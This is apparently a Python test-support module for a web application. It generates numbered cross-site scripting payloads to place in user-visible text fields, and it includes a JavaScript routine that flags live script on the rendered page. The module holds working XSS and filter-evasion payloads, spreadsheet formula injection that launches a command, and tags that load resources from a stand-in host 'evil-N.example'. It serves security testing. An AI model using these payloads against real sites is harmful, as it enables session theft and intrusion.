"""Text that wants to run: payloads for every place where somebody's words are shown.

Each sets `window.__xss` to its own number, or asks a foreign host, so that whatever comes of it names the culprit.
"""

from __future__ import annotations

from functools import cache

from tests.support.tiers import count

#: Names of teams, keys and people are no longer.
CHARS_MAX = 64
COUNT = count(100, 200)

_RUN = "__xss=@"
_PLAIN = (
    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT>", f"<script/x>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x ONERROR={_RUN}>", f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}//", f"<svg><script>{_RUN}</script></svg>", f"<svg><a xlink:href=javascript:{_RUN}>a</a>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>", f"<x tabindex=1 autofocus onfocus={_RUN}>",
    f"<video src=x onerror={_RUN}>", f"<audio src=x onerror={_RUN}>", f"<video><source onerror={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<x onpointerenter={_RUN}>hover", f"<style onload={_RUN}></style>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">', f"<iframe src=javascript:parent.{_RUN}>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>", f"<a href=javascript:{_RUN}>a</a>",
    f"<a href=java&#9;script:{_RUN}>a</a>", f"<form action=javascript:{_RUN}><button>b</button>", f"<button formaction=javascript:{_RUN}>b</button>",
    f"<math href=javascript:{_RUN}>m</math>", f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    "<base href=//evil-@.example/>", "<link rel=stylesheet href=//evil-@.example/>", "<img src=//evil-@.example/x>",
    "<style>@import'//evil-@.example/'</style>", "<style>*{background:url(//evil-@.example)}</style>", "<script src=//evil-@.example/></script>",
    f"<p hx-on:htmx:load={_RUN}>", f"<p hx-get=/ hx-trigger=load hx-on::after-request={_RUN}>", f"<p data-hx-on:click={_RUN}>",
    f"<p hx-vals=js:{{a:{_RUN}}} hx-get=/ hx-trigger=load>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>", f"<!--><img src=x onerror={_RUN}>-->", f"<plaintext><img src=x onerror={_RUN}>",
)  # fmt: skip
#: Ends of the place that the text may stand in.
_WAYS_OUT = ('">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>")
_NO_MARKUP = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f'" autofocus onfocus={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='", f'" onmouseover={_RUN} x="', f'";{_RUN};//', f"';{_RUN};//", f'\\";{_RUN};//', f"'-({_RUN})-'",
    f"${{{_RUN}}}", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"{{% {_RUN} %}}", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"%3Cscript%3E{_RUN}%3C/script%3E", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f'=HYPERLINK("javascript:{_RUN}")', f"@SUM({_RUN})",
    "+cmd|' /C calc'!A@", "-2+3+cmd|' /C calc'!A@", f"[a](javascript:{_RUN})", f"![a](x \"onerror={_RUN}\")",
)  # fmt: skip


@cache
def payloads() -> tuple[str, ...]:
    """Return the payloads, the plain ones first; each has its own number in it and fits into a name."""
    found = [*_PLAIN, *_NO_MARKUP, *(out + plain for out in _WAYS_OUT for plain in _PLAIN)]
    # "@import" and "@SUM" keep theirs.
    numbered = [text.replace("=@", f"={number}").replace("-@", f"-{number}").replace("A@", f"A{number}")
                for number, text in enumerate(found, 1)]  # fmt: skip
    first = len(_PLAIN) + len(_NO_MARKUP)
    chosen = [text for text in numbered[:first] if len(text) <= CHARS_MAX]
    others = [text for text in numbered[first:] if len(text) <= CHARS_MAX]
    # Some of every way out.
    missing = COUNT - len(chosen)
    return (*chosen, *others[:: len(others) // missing][:missing])


#: Finds what of a page could run, and is not of our own making: what a browser with another policy would have run.
LIVE_PARTS = """() => {
  const found = [];
  const roots = [document, ...[...document.querySelectorAll("template")].map((one) => one.content)];
  for (const root of roots) for (const one of root.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      const isLink = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(name);
      if (/^on|^(data-)?hx-on/i.test(name) || (isLink && /^[\\s\\0-\\x1f]*(javascript|vbscript|data:text)/i.test(value)) || name === "srcdoc")
        found.push(`${one.tagName} ${name}=${value}`);
    }
    if (one.tagName === "SCRIPT" && !one.src && !one.type.includes("json")) found.push(one.outerHTML);
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "MARQUEE"].includes(one.tagName)) found.push(one.outerHTML);
  }
  return found;
}"""
